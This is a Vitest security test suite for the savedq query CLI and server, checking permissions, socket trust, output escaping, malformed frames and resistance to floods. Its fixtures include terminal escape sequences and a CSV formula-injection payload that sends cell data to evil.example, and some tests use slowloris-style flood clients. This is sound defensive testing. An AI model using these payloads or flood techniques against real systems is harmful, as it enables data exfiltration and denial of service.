import { spawnSync } from 'node:child_process';
import { chmodSync, chownSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { connect, createServer, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { binPath, cli, engineQueue, eventually, NO_CONFIG, startServe, tempDir } from '../helpers.js';
import { has } from '../system.js';

// What savedq does when its neighbours are careless or hostile: files only its user can read, a socket
// that trusts no one, terminals and spreadsheets that a log line cannot take over.
const dir = tempDir();
const queries = join(dir, 'queries');
mkdirSync(queries);
// A row whose message was written by whoever sent the logged request.
writeFileSync(
  join(queries, 'hostile.sql'),
  "SELECT 'retitle \\x1b]0;owned\\x07 clear \\x1b[2J tab\\tnewline\\nDEL\\x7f C1\\xc2\\x9b' AS message, '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")' AS formula, -5 AS n, '@SUM(1)' AS at\n",
);
const env = { SAVEDQ_DATA_DIR: join(dir, 'data'), SAVEDQ_CACHE_FILE: join(dir, 'cache', 'results.sqlite'), SAVEDQ_QUERIES: queries };
const mode = (path: string) => statSync(path).mode & 0o777;

describe('files stay with their owner', () => {
  it('makes the data directory and the cache file’s folder 0700, the cache file and its -wal and -shm 0600, whatever the umask', async () => {
    // The CLI as a shell with umask 022 starts it.
    const r = spawnSync('sh', ['-c', `umask 022; exec "${process.execPath}" "${binPath}" run usage.api-counts -p project=x -p interval=daily -f json`], {
      env: { PATH: process.env.PATH ?? '', XDG_CONFIG_HOME: NO_CONFIG, ...env },
      encoding: 'utf8',
    });
    expect(r.status, r.stderr).toBe(0);
    expect(mode(env.SAVEDQ_DATA_DIR)).toBe(0o700);
    expect(mode(join(dir, 'cache'))).toBe(0o700);
    expect(mode(env.SAVEDQ_CACHE_FILE)).toBe(0o600);
  });

  it("keeps the cache file's -wal and -shm 0600 while a process has them open, whatever the umask", async () => {
    // SQLite removes them when its last connection closes: serve keeps one open while it runs.
    const cacheFile = join(dir, 'wal-cache', 'results.sqlite');
    const server = await startServe({ ...env, SAVEDQ_DATA_DIR: join(dir, 'wal-data'), SAVEDQ_CACHE_FILE: cacheFile, SAVEDQ_API_KEYS: 'k' }, [], [], ['sh', '-c', 'umask 022; exec "$@"', 'sh']);
    try {
      const res = await fetch(`${server.url}/api/endpoints/query/usage.api-counts?project=x&interval=daily`, { headers: { 'X-API-KEY': 'k' } });
      expect(res.status).toBe(200);
      for (const suffix of ['', '-wal', '-shm']) expect(mode(`${cacheFile}${suffix}`), suffix || 'the file').toBe(0o600);
    } finally {
      server.child.kill('SIGTERM');
      await server.exited;
    }
  });

  it('narrows a data directory of its own that others may read; refuses one others may write to, naming the fix', async () => {
    const wide = join(dir, 'wide');
    mkdirSync(wide);
    chmodSync(wide, 0o755);
    expect((await cli(['run', 'hostile'], { env: { ...env, SAVEDQ_DATA_DIR: wide } })).code).toBe(0);
    expect(mode(wide)).toBe(0o700);
    const open = join(dir, 'open');
    mkdirSync(open);
    chmodSync(open, 0o777);
    const refused = await cli(['run', 'hostile'], { env: { ...env, SAVEDQ_DATA_DIR: open } });
    expect(refused).toMatchObject({ code: 2, stdout: '', stderr: `savedq: refusing data directory ${open}: other users can write to it; run chmod 700 ${open}.\n` });
  });

  it('refuses a folder of other files as its data directory, and changes nothing in it', async () => {
    const folder = join(dir, 'a-project');
    mkdirSync(join(folder, 'savedq-load'), { recursive: true });
    writeFileSync(join(folder, 'notes.txt'), 'mine');
    writeFileSync(join(folder, 'savedq-load', 'mine.txt'), 'mine too');
    chmodSync(folder, 0o755);
    const refused = await cli(['run', 'hostile'], { env: { ...env, SAVEDQ_DATA_DIR: folder } });
    expect(refused).toMatchObject({
      code: 2,
      stdout: '',
      stderr: `savedq: refusing data directory ${folder}: it holds other files (notes.txt, savedq-load) and no data of the engine's; give a new or empty directory.\n`,
    });
    expect(readdirSync(folder).sort()).toEqual(['notes.txt', 'savedq-load']);
    expect(readFileSync(join(folder, 'savedq-load', 'mine.txt'), 'utf8')).toBe('mine too');
    expect(mode(folder)).toBe(0o755);
    // A disk of its own mounted there has only its lost+found: taken.
    const mounted = join(dir, 'mounted');
    mkdirSync(join(mounted, 'lost+found'), { recursive: true });
    expect((await cli(['run', 'hostile'], { env: { ...env, SAVEDQ_DATA_DIR: mounted } })).code).toBe(0);
  });

  it('does not use a cache file others may write to: one warning naming it and the fix, and the answer', async () => {
    const file = join(dir, 'cache', 'open.sqlite');
    writeFileSync(file, '');
    chmodSync(file, 0o666);
    const r = await cli(['run', 'usage.api-counts', '-p', 'project=x', '-p', 'interval=daily', '-f', 'json'], { env: { ...env, SAVEDQ_CACHE_FILE: file } });
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual(expect.any(Array));
    expect(r.stderr).toBe(`warning: results cache ${file} is not usable (other users can write to ${file}; run chmod 600 ${file}); answering without it.\n`);
  });

  it('does not take a folder or a device for a cache file: one warning saying so, no chmod advice, and the answer', async () => {
    const folder = join(dir, 'a-cache-folder');
    mkdirSync(folder);
    for (const [file, what] of [
      [folder, 'a folder'],
      ['/dev/null', 'a device or a pipe'],
    ] as const) {
      const r = await cli(['run', 'usage.api-counts', '-p', 'project=x', '-p', 'interval=daily', '-f', 'json'], { env: { ...env, SAVEDQ_CACHE_FILE: file } });
      expect(r.code, r.stderr).toBe(0);
      expect(JSON.parse(r.stdout)).toEqual(expect.any(Array));
      expect(r.stderr).toBe(`warning: results cache ${file} is not usable (${file} is ${what}, not a file; give --cache-file a file's path); answering without it.\n`);
      // The alerts keep their state there: a refusal naming it, not an unexpected error.
      const alerts = await cli(['alerts', 'list'], { env: { ...env, SAVEDQ_CACHE_FILE: file } });
      expect(alerts).toMatchObject({ code: 2, stderr: `savedq: alerts keep their state in the cache file, and ${file} is ${what}, not a file; give --cache-file a file's path.\n` });
    }
  });
});

describe('terminals and spreadsheets', () => {
  it('shows control characters as escapes in a table and in records, never raw', async () => {
    for (const args of [['-f', 'table'], ['-f', 'table', '--expanded']]) {
      const r = await cli([...args.slice(2), 'run', 'hostile', ...args.slice(0, 2)], { env: { ...env, COLUMNS: '200' } });
      expect(r.code, r.stderr).toBe(0);
      // eslint-disable-next-line no-control-regex
      expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
      expect(r.stdout).toContain('retitle \\x1b]0;owned\\x07 clear \\x1b[2J tab\\tnewline\\nDEL\\x7f C1\\x9b');
    }
  });

  it('writes a CSV cell a spreadsheet would run with a leading quote, numbers as they are; --csv-raw writes text as it is; JSON unchanged', async () => {
    const csv = await cli(['run', 'hostile', '-f', 'csv'], { env });
    expect(csv.stdout.split('\r\n')[1]).toMatch(/,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""click""\)",-5,'@SUM\(1\)$/);
    const raw = await cli(['--csv-raw', 'run', 'hostile', '-f', 'csv'], { env });
    expect(raw.stdout.split('\r\n')[1]).toMatch(/,"=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""click""\)",-5,@SUM\(1\)$/);
    const json = JSON.parse((await cli(['run', 'hostile', '-f', 'json'], { env })).stdout) as Record<string, unknown>[];
    expect(json[0]?.message).toBe('retitle \u001b]0;owned\u0007 clear \u001b[2J tab\tnewline\nDEL\u007f C1\u009b');
    expect(json[0]?.formula).toBe('=HYPERLINK("http://evil.example/?x="&A1,"click")');
  });
});

describe('the socket trusts no one', () => {
  /** A private folder that the unprivileged user "nobody" may enter, for a socket of its own. */
  const open = mkdtempSync(join(tmpdir(), 'savedq-socket-'));
  chmodSync(open, 0o755);
  afterAll(() => rmSync(open, { recursive: true, force: true }));

  it.runIf(has.root)('refuses a socket in the data directory that another user owns (exit 2, naming it), and sends it nothing', async () => {
    const data = join(open, 'data');
    mkdirSync(data, { mode: 0o700 });
    const socket = join(data, 'savedq.sock');
    const received: Buffer[] = [];
    const listener = createServer((s) => s.on('data', (d: Buffer) => received.push(d)));
    await new Promise<void>((resolve) => listener.listen(socket, resolve));
    chownSync(socket, 65534, 65534);
    try {
      const r = await cli(['run', 'hostile', '--no-cache'], { env: { ...env, SAVEDQ_DATA_DIR: data } });
      expect(r.code).toBe(2);
      expect(r.stderr).toBe(`savedq: the socket ${socket} belongs to another user (uid 65534); savedq sends nothing there. Remove it, or use a data directory of your own.\n`);
      expect(received).toEqual([]);
    } finally {
      listener.close();
    }
  });

  it('a listener that never answers: the run fails after its --timeout, not never', async () => {
    const data = join(dir, 'silent');
    mkdirSync(data, { mode: 0o700 });
    const socket = join(data, 'savedq.sock');
    const listener = createServer(() => undefined);
    await new Promise<void>((resolve) => listener.listen(socket, resolve));
    try {
      const started = Date.now();
      const r = await cli(['--timeout', '1', 'run', 'hostile', '--no-cache'], { env: { ...env, SAVEDQ_DATA_DIR: data } });
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/stopped answering \(it did not answer in time\); run the command again\.\n$/);
      expect(Date.now() - started).toBeLessThan(60_000); // it used to wait for good
    } finally {
      listener.close();
    }
  });

  it('serve survives any frame: each bad one closes its connection with one log line, and the others are answered', async () => {
    const data = join(dir, 'served');
    const server = await startServe({ ...env, SAVEDQ_DATA_DIR: data, SAVEDQ_API_KEYS: 'k' });
    const socket = join(data, 'savedq.sock');
    const frame = (header: string | Buffer, bodyLength = 0): Buffer => {
      const json = Buffer.isBuffer(header) ? header : Buffer.from(header);
      const prefix = Buffer.alloc(8);
      prefix.writeUInt32BE(json.length, 0);
      prefix.writeUInt32BE(bodyLength, 4);
      return Buffer.concat([prefix, json]);
    };
    /** Sends bytes on a connection of their own; resolves with what came back once serve closed it. */
    const send = async (bytes: Buffer, end = false): Promise<string> => {
      const s: Socket = connect(socket);
      let back = '';
      s.on('data', (d: Buffer) => (back += d.subarray(8).toString('utf8')));
      await new Promise<void>((resolve) => s.once('connect', () => resolve()));
      s.write(bytes);
      if (end) s.end();
      await new Promise<void>((resolve) => s.once('close', () => resolve()));
      return back;
    };
    const cases: [string, Buffer, RegExp][] = [
      ['not JSON', frame('{"op": query'), /a frame's header that is not JSON/],
      ['not an object', frame('[1, 2]'), /a frame whose header is not an object/],
      ['an unknown operation', frame('{"id": 7, "op": "format-disk"}'), /an unknown operation "format-disk"/],
      ['a missing statement', frame('{"id": 8, "op": "run", "kind": "query"}'), /a run request without its statement/],
      ['a kind of statement not known', frame('{"id": 8, "op": "run", "kind": "drop", "statement": {"sql": "SELECT 1"}}'), /a run of an unknown kind "drop"/],
      ['an id of the wrong type', frame('{"id": "x", "op": "run", "kind": "query", "statement": {"sql": "SELECT 1"}}'), /a request without a whole-number id/],
      ['a header claiming 4 GiB', Buffer.from([0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0]), /a frame's header of 4294967295 bytes/],
      ['a body claiming 4 GiB', Buffer.from([0, 0, 0, 2, 0xff, 0xff, 0xff, 0xff]), /a frame's body of 4294967295 bytes/],
    ];
    for (const [what, bytes, logged] of cases) {
      const back = await send(bytes);
      await server.waitFor(logged);
      // An error for the id when it could be read, and the connection closed.
      if (/"id": [78]/.test(bytes.toString())) expect(back, what).toMatch(/savedq serve cannot take this request/);
    }
    // Half a frame, then the peer goes: nothing to answer, nothing broken.
    await send(frame('{"id": 9, "op": "run", "kind": "query", "statement": {"sql": "SELECT 1"}}').subarray(0, 12), true);
    expect(server.child.exitCode).toBeNull();
    // The others are answered: a CLI through the socket, and HTTP.
    const r = await cli(['run', 'hostile', '--no-cache', '-f', 'json'], { env: { ...env, SAVEDQ_DATA_DIR: data } });
    expect(r.code, r.stderr).toBe(0);
    expect((await fetch(`${server.url}/api/endpoints/query/hostile`, { headers: { 'X-API-KEY': 'k' } })).status).toBe(200);
    expect(await engineQueue(server.url)).toMatchObject({ running: 0, waiting: 0 });
    expect(server.stderr()).not.toMatch(/at .*\.js:\d+/); // no stack trace
    await eventually('serve to still run', () => server.child.exitCode === null);
  });
});

describe('serve outlives floods', () => {
  it.runIf(has.ss)('closes a connection past --header-timeout for good, even when its client never reads the 408', async () => {
    const server = await startServe({ ...env, SAVEDQ_DATA_DIR: join(dir, 'half-open'), SAVEDQ_API_KEYS: 'k' }, [], ['--header-timeout', '3']);
    const port = Number(new URL(server.url).port);
    const clients = Array.from({ length: 20 }, () => {
      const s = connect(port, '127.0.0.1');
      s.pause(); // never reads what serve answers
      s.on('error', () => undefined);
      s.write('GET /health HTTP/1.1\r\nHost: x\r\n');
      return s;
    });
    try {
      // serve's own sockets of the port, but the one that listens.
      const held = () =>
        spawnSync('ss', ['-Htanp', 'state', 'all', `( sport = :${port} )`], { encoding: 'utf8' }).stdout.split('\n').filter((l) => l.includes(`pid=${server.child.pid},`) && !l.startsWith('LISTEN')).length;
      // First serve holds the 20 (their headers not yet late), then it lets go of every one.
      await eventually('serve to hold the 20 connections', () => held() === 20);
      await eventually('serve to have answered the 20 and let go of them', () => held() === 0 && server.child.exitCode === null);
      const res = await fetch(`${server.url}/health`);
      expect(res.status).toBe(200);
    } finally {
      for (const s of clients) s.destroy();
      server.child.kill('SIGTERM');
      await server.exited;
    }
  });


  it.runIf(has.prlimit && has.ss)('holds at most --max-connections, closes a connection whose headers drip past --header-timeout, and the other savedq processes still reach the socket', async () => {
    const data = join(dir, 'flooded');
    // Under an open-file limit of 1024, as on many machines: serve takes at most 1024 - 256 connections.
    // A header timeout long enough that closures before it are the limit's, not the timeout's.
    const server = await startServe({ ...env, SAVEDQ_DATA_DIR: data, SAVEDQ_API_KEYS: 'k' }, [], ['--header-timeout', '10'], ['prlimit', '--nofile=1024:1024']);
    const port = Number(new URL(server.url).port);
    const held = () => spawnSync('ss', ['-Htn', 'state', 'established', `( sport = :${port} )`], { encoding: 'utf8' }).stdout.split('\n').filter((l) => l !== '').length;
    const started = Date.now();
    const slow: Socket[] = [];
    let closed = 0;
    for (let i = 0; i < 900; i++) {
      const s = connect(port, '127.0.0.1');
      s.on('error', () => undefined);
      s.on('close', () => (closed += 1));
      s.resume(); // what serve answers (a 408) is read, so its close is seen
      s.write('GET /health HTTP/1.1\r\nHost: x\r\n'); // and never the rest
      slow.push(s);
    }
    try {
      // Past the limit, connections are closed at once (long before their headers are late), and serve
      // holds no more than the limit: the 768 newest, waiting for their headers.
      await eventually('the connections past --max-connections to be closed', () => closed >= 900 - 768);
      expect(Date.now() - started).toBeLessThan(10_000);
      expect(closed).toBe(900 - 768);
      expect(held()).toBe(768);
      const cliRun = await cli(['run', 'hostile', '--no-cache', '-f', 'json'], { env: { ...env, SAVEDQ_DATA_DIR: data } });
      expect(cliRun.code, cliRun.stderr).toBe(0);
      await eventually('the slow connections to be closed after --header-timeout', () => closed === 900);
      const res = await fetch(`${server.url}/api/endpoints/query/hostile`, { headers: { 'X-API-KEY': 'k' } });
      expect(res.status).toBe(200);
    } finally {
      for (const s of slow) s.destroy();
    }
  });

  it.runIf(has.prlimit)('answers whole requests while clients that reconnect at once hold every connection with headers sent a line at a time', async () => {
    const data = join(dir, 'dripped');
    const server = await startServe({ ...env, SAVEDQ_DATA_DIR: data, SAVEDQ_API_KEYS: 'k' }, ['--quiet'], [], ['prlimit', '--nofile=1024:1024']);
    const port = Number(new URL(server.url).port);
    // 900 clients for 768 connections, each sending a header line every 2 s and never the end of its
    // headers, and coming back the moment it is dropped.
    let stop = false;
    let dropped = 0;
    const held = new Set<Socket>();
    const drip = () => {
      if (stop) return;
      const s = connect(port, '127.0.0.1');
      let timer: NodeJS.Timeout | undefined;
      held.add(s);
      s.on('connect', () => {
        s.write('GET /health HTTP/1.1\r\nHost: x\r\n');
        timer = setInterval(() => s.write(`X-Drip-${Date.now()}: 1\r\n`), 2000);
      });
      s.on('error', () => undefined);
      s.on('close', () => {
        clearInterval(timer);
        held.delete(s);
        dropped += 1;
        setImmediate(drip);
      });
      s.resume();
    };
    for (let i = 0; i < 900; i++) drip();
    try {
      await eventually('every connection to be taken', () => dropped >= 900);
      // Whole requests, one after another, each on a connection of its own: every one answered.
      for (let i = 0; i < 5; i++) {
        for (const path of ['/health', '/api/endpoints/query/hostile']) {
          const res = await fetch(`${server.url}${path}`, { headers: { 'X-API-KEY': 'k', Connection: 'close' } });
          expect(res.status, `${i} ${path}`).toBe(200);
          await res.arrayBuffer();
        }
      }
    } finally {
      stop = true;
      for (const s of held) s.destroy();
      server.child.kill('SIGTERM');
      await server.exited;
    }
  });

  it('serves waiting calls in turn across callers, and answers 503 overloaded with Retry-After past --max-queue', async () => {
    writeFileSync(join(queries, 'nap.each.sql'), '/*\nparams:\n  p: { type: string, required: true }\n*/\nSELECT @p AS p, sleepEachRow(0.1) AS z FROM numbers(2)\n');
    const data = join(dir, 'queued');
    const server = await startServe({ ...env, SAVEDQ_DATA_DIR: data, SAVEDQ_API_KEYS: 'first,second' }, [], ['--max-queue', '20']);
    const ask = (key: string, p: string) =>
      fetch(`${server.url}/api/endpoints/query/nap.each?p=${p}`, { headers: { 'X-API-KEY': key } }).then(async (r) => ({ status: r.status, p, retryAfter: r.headers.get('retry-after'), body: await r.text() }));
    const done: string[] = [];
    const first = Array.from({ length: 15 }, (_, i) => ask('first', `a${i}`).then((r) => (done.push(r.p), r)));
    await eventually('the first key’s calls to wait', async () => (await engineQueue(server.url)).waiting >= 14);
    const second = await ask('second', 'b');
    done.push('b-done');
    expect(second.status).toBe(200);
    // The second key's one call went next, not after the first key's fourteen.
    expect(done.indexOf('b-done')).toBeLessThanOrEqual(2);
    // Past --max-queue (20 waiting): 503 with Retry-After, at once; when the queue is full, the caller
    // with the most calls waiting gives up its newest to one with fewer.
    const flood = await Promise.all(Array.from({ length: 30 }, (_, i) => ask('second', `c${i}`)));
    const all = [...flood, ...(await Promise.all(first))];
    const refused = all.filter((r) => r.status === 503);
    expect(refused.length).toBeGreaterThan(0);
    for (const r of refused) {
      expect(r.retryAfter).toBe('1');
      expect(JSON.parse(r.body)).toMatchObject({ error: { code: 'overloaded' } });
    }
    expect(all.filter((r) => r.status !== 503).every((r) => r.status === 200)).toBe(true);
    // The first calls of each key were answered: what was refused was each flood's newest.
    expect(flood[0]?.status).toBe(200);
  });
});

describe('the OpenAPI document declares what the server does', () => {
  it('every answer of every kind the server sends is a status, method and body the document declares, and what the server takes its parameter schemas take', async () => {
    const own = join(dir, 'openapi-queries');
    mkdirSync(own);
    writeFileSync(
      join(own, 'typed.sql'),
      '/*\nparams:\n  errors_only: { type: boolean, default: false }\n  since: { type: timestamp }\nfields:\n  metadata: { type: object }\n  tags: { type: array }\n  ok: { type: boolean }\n  since_given: { type: timestamp }\ncache: 900\n*/\nSELECT map(\'request\', map(\'path\', \'/x\')) AS metadata, [\'a\'] AS tags, @errors_only AS ok, @since AS since_given\n',
    );
    // SQL the engine refuses keeps serve from starting; a query that fails as it runs is a 502.
    writeFileSync(join(own, 'failing.sql'), "SELECT throwIf(number = 0, 'deliberate failure') AS x FROM system.numbers LIMIT 1\n");
    // Past its own time limit, a 504.
    writeFileSync(join(own, 'endless.sql'), '/*\ntimeout: 1\n*/\nSELECT count() AS n FROM numbers(100000000000)\n');
    // A call that holds the engine long enough for the calls sent with it to find the queue full.
    writeFileSync(join(own, 'nap.sql'), '/*\nparams:\n  p: { type: integer, default: 0 }\n*/\nSELECT @p AS p, sleepEachRow(0.5) AS z FROM numbers(2)\n');
    const server = await startServe({ ...env, SAVEDQ_DATA_DIR: join(dir, 'openapi-data'), SAVEDQ_API_KEYS: 'k', SAVEDQ_QUERIES: own }, [], ['--header-timeout', '1', '--max-queue', '1']);
    const doc = (await (await fetch(`${server.url}/openapi.json`)).json()) as {
      paths: Record<string, Record<string, { parameters?: { name: string; schema: object }[]; responses: Record<string, { content?: Record<string, { schema: object }> }> }>>;
      components: object;
    };
    // JSON Schema 2020-12, as OpenAPI 3.1 uses; types, enums, patterns and required fields checked.
    const ajv = new Ajv2020({ strict: false, validateFormats: false });
    ajv.addSchema({ $id: 'doc', components: doc.components });
    const resolve = (schema: object) => JSON.parse(JSON.stringify(schema).replace(/"#\/components/g, '"doc#/components')) as object;

    /** Checks one answer against the operation of its path and method. */
    const conforms = (path: string, method: string, status: number, body: string) => {
      const operation = doc.paths[path]?.[method];
      expect(operation, `${method} ${path}`).toBeDefined();
      const declared = operation?.responses[String(status)];
      expect(declared, `${method} ${path} answered ${status}`).toBeDefined();
      if (method === 'head') { expect(body).toBe(''); return; }
      const schema = declared?.content?.['application/json']?.schema;
      expect(schema, `${method} ${path} ${status} has a body schema`).toBeDefined();
      const validate = ajv.compile(resolve(schema as object));
      expect(validate(JSON.parse(body)), `${method} ${path} ${status}: ${JSON.stringify(validate.errors)} in ${body}`).toBe(true);
    };
    const request = async (path: string, query = '', init: RequestInit = {}) => {
      const res = await fetch(`${server.url}${path}${query}`, { ...init, headers: { 'X-API-KEY': 'k', ...(init.headers as Record<string, string>) } });
      return { status: res.status, body: await res.text() };
    };
    const typed = '/api/endpoints/query/typed';
    const answers: [string, string, { status: number; body: string }][] = [
      [typed, 'get', await request(typed, '?errors_only=0&since=2026-11-20T12:00:00')],
      [typed, 'head', await request(typed, '?errors_only=1', { method: 'HEAD' })],
      [typed, 'get', await request(typed, '?errors_only=maybe')],
      [typed, 'get', await request(typed, '', { headers: { 'X-API-KEY': 'wrong' } })],
      [typed, 'get', await request(typed, `?since=${'9'.repeat(9000)}`)],
      [typed, 'get', await request(typed, '', { headers: { 'X-Big': 'y'.repeat(20_000) } })],
      ['/api/endpoints/query/failing', 'get', await request('/api/endpoints/query/failing')],
      ['/api/endpoints/query/endless', 'get', await request('/api/endpoints/query/endless')],
      ['/health', 'get', await request('/health')],
      ['/health', 'head', await request('/health', '', { method: 'HEAD' })],
    ];
    // Past --max-queue (1): four calls at once while the first holds the engine for a second; the third
    // and fourth find the queue full.
    const nap = '/api/endpoints/query/nap';
    const flood = await Promise.all([1, 2, 3, 4].map((p) => request(nap, `?p=${p}`)));
    for (const f of flood) answers.push([nap, 'get', f]);
    // A request whose headers never end: 408 once --header-timeout is up.
    const slow = await new Promise<string>((resolve) => {
      const s = connect(Number(new URL(server.url).port), '127.0.0.1');
      let back = '';
      s.on('data', (d: Buffer) => (back += d.toString()));
      s.on('close', () => resolve(back));
      s.write(`GET ${typed} HTTP/1.1\r\nHost: x\r\n`);
    });
    answers.push([typed, 'get', { status: Number(slow.split(' ')[1]), body: slow.slice(slow.indexOf('\r\n\r\n') + 4) }]);

    const statuses = new Set(answers.map(([, , a]) => a.status));
    for (const status of [200, 400, 401, 408, 414, 431, 502, 503, 504]) expect(statuses, `a ${status} was tried`).toContain(status);
    for (const [path, method, answer] of answers) conforms(path, method, answer.status, answer.body);

    // What the server took above, its parameter schemas take too (errors_only=0, a timestamp with no zone).
    const parameters = doc.paths[typed]?.get?.parameters ?? [];
    const takes = (name: string, value: string) => ajv.compile(resolve(parameters.find((p) => p.name === name)?.schema ?? {}))(value);
    expect([takes('errors_only', '0'), takes('errors_only', 'true'), takes('since', '2026-11-20T12:00:00'), takes('since', '2026-11-20T12:00:00+01:00')]).toEqual([true, true, true, true]);
  });
});
